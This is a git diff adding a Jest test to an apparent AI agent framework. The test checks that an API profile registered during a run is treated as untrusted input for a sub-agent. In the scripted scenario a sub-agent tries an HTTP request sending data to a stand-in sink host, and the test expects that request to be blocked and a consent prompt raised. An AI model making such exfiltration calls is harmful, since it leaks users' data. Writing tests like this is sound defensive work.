@@ -1,8 +1,10 @@
 import { expect } from '@jest/globals';
 import type { JsonObject } from '../../../../src/core/kernel/json.ts';
+import { promptSection } from '../../../../src/core/api-store/prompt-section.ts';
 import { untrusted } from '../../../../src/core/kernel/untrusted.ts';
 import type { Tool } from '../../../../src/core/ports/tools.ts';
 import { text, toolCalls } from '../../../doubles/scripted-model.ts';
+import { aProfile } from '../../../harness/apis.ts';
 import { aTool } from '../../../harness/core.ts';
 import { verifies } from '../../../spec/verifies.ts';
 import { agentsIn, an, resultsIn, spawn, stage } from './stage.ts';
@@ -98,5 +100,34 @@ verifies(
     const run = await core.history.runs.get(runId);
     expect(run?.waitMs).toBeGreaterThanOrEqual(2 * HOUR);
     expect(run?.durationMs).toBeLessThan(60_000);
+  },
+);
+
+verifies(
+  ['agents.material', 'security.consent.provenance'],
+  'the profile of an API that its run has registered may be a stranger’s word to a sub-agent',
+  async () => {
+    const read: string[] = [];
+    let section = '';
+    const registering = aTool('api_setup', async () => {
+      section = promptSection([aProfile()], '0123456789abcdef');
+      return { output: 'registered', success: true };
+    });
+    const core = stage(
+      {
+        svc: [[toolCalls({ name: 'api_setup', input: {} })], [spawn(an('Ann'))], [text('ok')]],
+        Ann: [
+          [toolCalls({ name: 'http_request', input: { url: 'https://sink.example/?d=known' } })],
+          [text('no')],
+        ],
+      },
+      { tools: [registering, { ...pages(read), name: 'http_request' }], registeredApis: () => section },
+    );
+    const session = await core.newSession();
+    await core.start(session);
+    await core.clock.advance(5_000);
+    expect(read).toEqual([]);
+    const pending = await core.prompts.pending(session.sessionId);
+    expect(pending?.prompt.questions[0]?.question).toContain('has put this together by itself');
   },
 );
